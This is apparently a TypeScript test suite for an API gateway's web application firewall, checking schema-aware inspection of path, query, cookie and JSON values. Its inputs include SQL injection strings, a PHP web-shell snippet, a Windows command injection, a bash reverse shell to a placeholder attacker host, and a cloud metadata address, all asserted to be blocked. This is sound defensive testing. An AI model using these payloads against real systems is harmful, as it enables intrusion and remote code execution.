/**
 * The WAF's use of what the gateway knows beyond ModSecurity, end to end: path parameters as
 * arguments (ARGS_PATH), and schema-aware inspection once `openapi-validation` held a request to
 * the API's document — typed values unread, free text read by high-confidence rules only,
 * identifiers by every rule — without letting a repeated parameter or cookie, a dotted JSON name,
 * base64 or an object's numeric key borrow a typed field's pass. A rule set of two rules of our
 * own (CRS layout) makes each outcome depend on one rule: `select` as a word (low confidence) and
 * `<script` (tagged `confidence/high`); with the built-in profile, free text is read by every rule
 * that blocks without the document.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { request } from 'undici'
import { baseConfig, startTestGateway, type TestGateway } from '../helpers/gateway.js'
import { startUpstream, type TestUpstream } from '../helpers/upstream.js'

const SETUP = `SecAction "id:900990,phase:1,pass,nolog,setvar:tx.crs_setup_version=4280"\n`
const RULES = `SecRule ARGS|REQUEST_COOKIES "@rx (?i)\\bselect\\b" "id:100001,phase:2,deny,status:403,t:none,t:urlDecodeUni,msg:'the word select'"
SecRule ARGS "@rx (?i)<script" "id:100002,phase:2,deny,status:403,t:none,msg:'script tag',tag:'confidence/high'"
`

const DOCUMENT = {
  openapi: '3.0.3',
  info: { title: 'items', version: '1' },
  paths: {
    '/items/{name}': {
      get: {
        operationId: 'getItem',
        parameters: [
          { name: 'name', in: 'path', required: true, schema: { type: 'string' } },
          { name: 'id', in: 'query', schema: { type: 'integer' } },
          { name: 'mode', in: 'query', schema: { type: 'string', enum: ['select-all', 'none'] } },
          { name: 'since', in: 'query', schema: { type: 'string', format: 'date' } },
          // Not typed: the validator checks int64 on numbers only, and `A-z` holds more than letters.
          { name: 'ref', in: 'query', schema: { type: 'string', format: 'int64' } },
          { name: 'code', in: 'query', schema: { type: 'string', pattern: '^[A-z0-9 ]+$' } },
          { name: 'slug', in: 'query', schema: { type: 'string', pattern: '^[a-z0-9-]+$' } },
          { name: 'view', in: 'cookie', schema: { type: 'string', enum: ['grid', 'list'] } },
          // An address names what a server may fetch: a metadata service is one.
          { name: 'target', in: 'query', schema: { type: 'string', format: 'ipv4' } },
        ],
        responses: { '200': { description: 'ok' } },
      },
    },
    '/items': {
      post: {
        operationId: 'createItem',
        requestBody: {
          content: {
            'application/json': {
              schema: {
                type: 'object',
                properties: {
                  title: { type: 'string', maxLength: 40 },
                  description: { type: 'string', maxLength: 4000 },
                  tags: { type: 'array', items: { type: 'string', pattern: '^[a-z0-9-]+$' } },
                  meta: { type: 'object', properties: { count: { type: 'integer' } } },
                  // Base64: any bytes, a serialized Java object (rO0AB…) among them.
                  avatar: { type: 'string', format: 'byte' },
                  // No `type`: `items` holds arrays to integers, `additionalProperties` objects; anything else passes.
                  scores: { items: { type: 'integer' } },
                  weights: { additionalProperties: { type: 'number' } },
                  // Names `patternProperties` matches are not held by `additionalProperties`.
                  labels: { type: 'object', patternProperties: { '^x-': { type: 'string' } }, additionalProperties: { type: 'integer' } },
                },
              },
            },
          },
        },
        responses: { '201': { description: 'created' } },
      },
    },
  },
}

/**
 * OpenAPI 3.1: `items` holds only the elements after `prefixItems`; under a schema's `$id`, a
 * `$ref` resolves against the `$id` (the pet's name is a string, not the file's integer `name`).
 */
const PAIRS = {
  openapi: '3.1.0',
  info: { title: 'pairs', version: '1' },
  $defs: { name: { type: 'integer' } },
  components: { schemas: { Pet: { $id: 'https://example.com/pet', type: 'object', $defs: { name: { type: 'string' } }, properties: { name: { $ref: '#/$defs/name' } } } } },
  paths: {
    '/pets': {
      post: {
        requestBody: { content: { 'application/json': { schema: { $ref: '#/components/schemas/Pet' } } } },
        responses: { '201': { description: 'created' } },
      },
    },
    '/pairs': {
      post: {
        requestBody: { content: { 'application/json': { schema: { type: 'object', properties: { pair: { type: 'array', prefixItems: [{ type: 'string' }], items: { type: 'integer' } } } } } } },
        responses: { '201': { description: 'created' } },
      },
    },
  },
}

async function status(gw: TestGateway, method: string, path: string, body?: unknown, headers: Record<string, string> = {}): Promise<number> {
  const response = await request(`${gw.url}${path}`, {
    method: method as 'GET',
    headers: { ...headers, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  })
  await response.body.dump()
  return response.statusCode
}

describe('waf: path parameters and schema-aware inspection', () => {
  let upstream: TestUpstream
  let gw: TestGateway

  before(async () => {
    upstream = await startUpstream()
    const waf = { ruleSet: 'rules-dir' }
    const validated = { 'openapi-validation': {}, waf }
    const config = baseConfig(upstream.url)
    config.apis = [
      { name: 'aware', basePath: '/aware', openapi: 'items.json', upstream: { url: upstream.url }, policies: validated },
      { name: 'unaware', basePath: '/unaware', openapi: 'items.json', upstream: { url: upstream.url }, policies: { 'openapi-validation': {}, waf: { ...waf, schemaAware: false } } },
      { name: 'unvalidated', basePath: '/unvalidated', openapi: 'items.json', upstream: { url: upstream.url }, policies: { waf } },
      { name: 'raw', basePath: '/raw', upstream: { url: upstream.url }, policies: { waf: {} } },
      { name: 'builtin-aware', basePath: '/builtin-aware', openapi: 'items.json', upstream: { url: upstream.url }, policies: { 'openapi-validation': {}, waf: {} } },
      { name: 'pairs-aware', basePath: '/pairs-aware', openapi: 'pairs.json', upstream: { url: upstream.url }, policies: validated },
    ]
    gw = await startTestGateway(config, {
      files: { 'items.json': JSON.stringify(DOCUMENT), 'pairs.json': JSON.stringify(PAIRS), 'rules-dir/crs-setup.conf': SETUP, 'rules-dir/rules/REQUEST-100-TEST.conf': RULES },
    })
  })
  after(async () => {
    await gw?.stop()
    await upstream?.close()
  })

  test('a path parameter is an argument: rules on ARGS read it, templated or not', async () => {
    assert.equal(await status(gw, 'GET', '/aware/items/widget'), 200)
    assert.equal(await status(gw, 'GET', '/aware/items/select'), 403)
    assert.equal(await status(gw, 'GET', '/unvalidated/items/select'), 403)
    // No document: the built-in profile reads the decoded segments that are more than a word.
    assert.equal(await status(gw, 'GET', '/raw/files/report-2025.pdf'), 200)
    assert.equal(await status(gw, 'GET', `/raw/files/${encodeURIComponent("1' OR '1'='1")}`), 403)
    assert.equal(await status(gw, 'GET', `/raw/users/${encodeURIComponent('1 UNION SELECT password FROM users--')}/profile`), 403)
  })

  test('a value the document typed (enum, date) is not inspected; without validation or with schemaAware off it is', async () => {
    assert.equal(await status(gw, 'GET', '/aware/items/widget?mode=select-all'), 200)
    assert.equal(await status(gw, 'GET', '/unaware/items/widget?mode=select-all'), 403)
    assert.equal(await status(gw, 'GET', '/unvalidated/items/widget?mode=select-all'), 403)
    assert.equal(await status(gw, 'GET', '/aware/items/widget?slug=select-all'), 200)
    assert.equal(await status(gw, 'GET', `/aware/items/widget?ref=${encodeURIComponent('1 select')}`), 403)
    assert.equal(await status(gw, 'GET', `/aware/items/widget?code=${encodeURIComponent('1 select')}`), 403)
    // What the document refuses never reaches the WAF's judgement: validation answers 400.
    assert.equal(await status(gw, 'GET', '/aware/items/widget?mode=select'), 400)
  })

  test('free text is read by high-confidence rules only; identifiers by every rule', async () => {
    assert.equal(await status(gw, 'POST', '/aware/items', { title: 'Chair', description: 'Select the colour you like and we ship it.' }), 200)
    assert.equal(await status(gw, 'POST', '/unaware/items', { title: 'Chair', description: 'Select the colour you like and we ship it.' }), 403)
    assert.equal(await status(gw, 'POST', '/aware/items', { title: 'Chair', description: 'nice <script>alert(1)</script>' }), 403)
    assert.equal(await status(gw, 'POST', '/aware/items', { title: 'select', description: 'fine' }), 403)
    assert.equal(await status(gw, 'POST', '/aware/items', { title: 'Chair', tags: ['select-all', 'blue'] }), 200)
  })

  test('a repeated parameter or a dotted JSON name does not borrow a typed field’s pass', async () => {
    // The validator reads the last `id` (5); the WAF reads both.
    assert.equal(await status(gw, 'GET', '/aware/items/widget?id=5'), 200)
    assert.equal(await status(gw, 'GET', `/aware/items/widget?id=${encodeURIComponent('1 select')}&id=5`), 403)
    // `{"meta.count": …}` is an undeclared property to the validator and `json.meta.count` to the WAF.
    assert.equal(await status(gw, 'POST', '/aware/items', { meta: { count: 3 } }), 200)
    assert.equal(await status(gw, 'POST', '/aware/items', { 'meta.count': 'select' }), 403)
  })

  test('a cookie the validator read twice gets no pass: it checked only the last one', async () => {
    const cookie = (value: string) => ({ cookie: value })
    assert.equal(await status(gw, 'GET', '/aware/items/widget', undefined, cookie('view=grid')), 200)
    assert.equal(await status(gw, 'GET', '/aware/items/widget', undefined, cookie('view=1 select')), 400)
    assert.equal(await status(gw, 'GET', '/aware/items/widget', undefined, cookie('view=1 select; view=grid')), 403)
    // The validator trims `view ` to `view` (last wins: grid); a server that takes the first sees `1 select`.
    assert.equal(await status(gw, 'GET', '/aware/items/widget', undefined, cookie('view=1 select; view =grid')), 403)
    assert.equal(await status(gw, 'GET', '/unaware/items/widget', undefined, cookie('view=1 select; view =grid')), 403)
  })

  test('base64 (`format: byte`) is no type an injection cannot fit in: every rule reads it', async () => {
    const serialized = Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11, ...Buffer.from('java.util.HashMap')]).toString('base64')
    assert.ok(serialized.startsWith('rO0AB'))
    assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', avatar: 'iVBORw0KGgo=' }), 200)
    assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', avatar: serialized }), 403)
    assert.equal(await status(gw, 'POST', '/aware/items', { title: 'Chair', avatar: 'AAAA+select+' }), 403)
  })

  test('a numeric name is an array index only where the document holds the value to an array', async () => {
    assert.equal(await status(gw, 'POST', '/aware/items', { scores: [1, 2], weights: { a: 0.5 } }), 200)
    assert.equal(await status(gw, 'POST', '/aware/items', { scores: ['1 select'] }), 400)
    // An object with a key `0` passes where `items` is all the schema says; so does an array where `additionalProperties` is.
    assert.equal(await status(gw, 'POST', '/aware/items', { scores: { 0: '1 select' } }), 403)
    assert.equal(await status(gw, 'POST', '/aware/items', { weights: ['1 select'] }), 403)
  })

  test('prefixItems, patternProperties, $id scopes and addresses give no pass where items, additionalProperties, the file or a format would', async () => {
    assert.equal(await status(gw, 'POST', '/pairs-aware/pairs', { pair: ['one', 1] }), 200)
    assert.equal(await status(gw, 'POST', '/pairs-aware/pairs', { pair: ['1 select', 1] }), 403)
    assert.equal(await status(gw, 'POST', '/pairs-aware/pets', { name: 'Rex' }), 200)
    assert.equal(await status(gw, 'POST', '/pairs-aware/pets', { name: '1 select' }), 403)
    assert.equal(await status(gw, 'POST', '/aware/items', { labels: { 'x-a': 'blue', b: 2 } }), 200)
    assert.equal(await status(gw, 'POST', '/aware/items', { labels: { 'x-a': '1 select' } }), 403)
    assert.equal(await status(gw, 'GET', '/builtin-aware/items/widget?target=10.0.0.5'), 200)
    assert.equal(await status(gw, 'GET', '/builtin-aware/items/widget?target=169.254.169.254'), 403)
  })

  test('with the built-in profile, free text is read by every rule that blocks without the document', async () => {
    const prose = 'I ran the export twice; select all rows, then delete the duplicates -- thanks!'
    assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', description: prose }), 200)
    for (const attack of ['O:8:"stdClass":1:{s:4:"_fn_";s:6:"system";}', "<?php $e=$_REQUEST['c'];@assert($e); ?>", 'x\r\n cmd.exe /c whoami', ";bash -c 'bash -i >& /dev/tcp/attacker.test/4444 0>&1'"]) {
      assert.equal(await status(gw, 'POST', '/raw/items', { title: 'Chair', description: attack }), 403, attack)
      assert.equal(await status(gw, 'POST', '/builtin-aware/items', { title: 'Chair', description: attack }), 403, attack)
    }
  })
})
